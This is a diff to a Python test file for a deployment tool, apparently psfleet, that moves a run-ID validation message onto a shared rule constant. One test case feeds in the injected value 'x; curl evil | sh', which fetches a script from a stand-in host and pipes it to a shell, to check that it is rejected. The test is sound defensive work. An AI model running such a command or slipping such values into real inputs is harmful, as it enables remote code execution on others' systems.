@@ -8,7 +8,7 @@ import pytest
 from ansible import constants
 
 from psfleet.run.folder import FolderState
-from psfleet.run.going_on import RefusedError
+from psfleet.run.going_on import RUN_ID_RULE, RefusedError
 from psfleet.run.start import Folder, decide, deploy_problems, deployed_by_others
 from psfleet.watch.hints import with_inventory
 from tests.psfleet.run.answering_hosts import PLAN, TASKS, found
@@ -196,8 +196,7 @@ def test_a_run_that_is_still_going_on_is_not_resized(lead: dict[str, Any]) -> No
         (
             {"n1": found("ps0", alive=True, run_id="x; curl evil | sh")},
             Folder(),
-            "a host names the run 'x; curl evil | sh'; expected lower case letters, digits and dashes, at "
-            "most 63, with a letter or digit first (ps0 on n1)",
+            f"a host names the run 'x; curl evil | sh'; expected {RUN_ID_RULE} (ps0 on n1)",
         ),
         # The version of a bare host is not mentioned.
         (
